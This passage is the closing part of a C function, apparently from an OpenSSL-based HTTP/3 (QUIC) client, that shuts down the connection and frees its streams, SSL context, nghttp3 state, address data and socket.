        if (SSL_shutdown_ex(conn, SSL_SHUTDOWN_FLAG_NO_BLOCK | SSL_SHUTDOWN_FLAG_RAPID, &args,
                            sizeof(args)) != 0)
            break;
        poll(&pfd, 1, 25);
    }
    ERR_clear_error();
    for (int i = 0; i < nstreams; i++)
        SSL_free(streams[i].s);
    SSL_free(conn);
    SSL_CTX_free(ctx);
    nghttp3_conn_del(h3);
    BIO_ADDR_free(peer);
    freeaddrinfo(ai);
    close(fd);
    return 0;
}
